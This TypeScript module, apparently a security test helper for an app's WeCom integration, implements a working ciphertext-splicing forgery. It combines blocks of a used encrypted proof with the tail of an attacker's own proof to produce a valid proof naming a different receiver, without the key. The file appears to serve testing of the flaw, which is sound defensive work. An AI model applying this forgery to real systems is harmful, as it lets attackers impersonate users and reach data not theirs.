import type { Proof } from '../../apps/bff/src/platforms/registry/platform.js'
import { key, seal } from '../../apps/bff/test/kit/proofs.js'

const BLOCK = 16

/** What the attacker knows of a proof that WeCom gave them. The state of another person's card is not in it. */
export interface Holder {
  readonly userid: string
  readonly chatId: string
  /** How long a state is; ours have 43 characters. */
  readonly stateLength: number
}

/** Short enough that what is made of it is no longer than genuine proofs may be. */
const OWN_STATE = 'x'.repeat(170)
const ownPlaintext = (userid: string) =>
  Buffer.from(JSON.stringify({ chatId: '', state: OWN_STATE, curReceiver: userid }))

/** The nth proof about a card of the attacker's own: with a state of their choice, which `setShareAttr` takes. */
const ownProof = (userid: string, n: number): Proof =>
  seal(key(userid), ownPlaintext(userid), key(`own ${n}`))

const bytes = (base64: string) => Buffer.from(base64, 'base64')
const xor = (a: Buffer, b: Buffer) => Buffer.from(a.map((byte, at) => byte ^ b[at]!))
const blockAt = (of: Buffer, n: number) => of.subarray(n * BLOCK, (n + 1) * BLOCK)

/** Text that changes nothing inside a JSON string. */
const isHarmless = (text: Buffer) => {
  const read = text.toString()
  // eslint-disable-next-line no-control-regex -- JSON's own rule
  return !read.includes('\ufffd') && !/[\u0000-\u001f"\\]/.test(read)
}

/**
 * Makes another proof of a used one, offline and without the session key. It keeps the used proof up to the block in
 * which the text of `curReceiver` begins. Behind that it puts the tail of an own proof.
 * The first block of the tail decrypts to the XOR of three things that the attacker knows.
 * Once in some 300,000 tails that block is harmless text. The tail then ends the text, with a `curReceiver` of its own.
 * @param from number of the first own proof that is looked at
 * @param count of own proofs
 * @returns null where the attacker needs more of them
 */
export const splice = (used: Proof, holder: Holder, from: number, count: number) => {
  const { userid, chatId, stateLength } = holder
  const head = `{"chatId":"${chatId}","state":"`.length + stateLength + '","curReceiver":"'.length
  const kept = Math.ceil(head / BLOCK)
  // The kept blocks must not end the text.
  if (kept * BLOCK - head > userid.length) throw new Error('this userid is too short for the chat')
  const keep = bytes(used.encryptedData).subarray(0, kept * BLOCK)
  const plain = ownPlaintext(userid)
  for (let n = from; n < from + count; n++) {
    const own = bytes(ownProof(userid, n).encryptedData)
    for (let j = 2; (j + 1) * BLOCK < plain.length - userid.length - 20; j++) {
      const garbled = xor(xor(blockAt(plain, j), blockAt(own, j - 1)), blockAt(keep, kept - 1))
      if (!isHarmless(garbled)) continue
      const encryptedData = Buffer.concat([keep, own.subarray(j * BLOCK)]).toString('base64')
      return { n, proof: { encryptedData, iv: used.iv } }
    }
  }
  return null
}
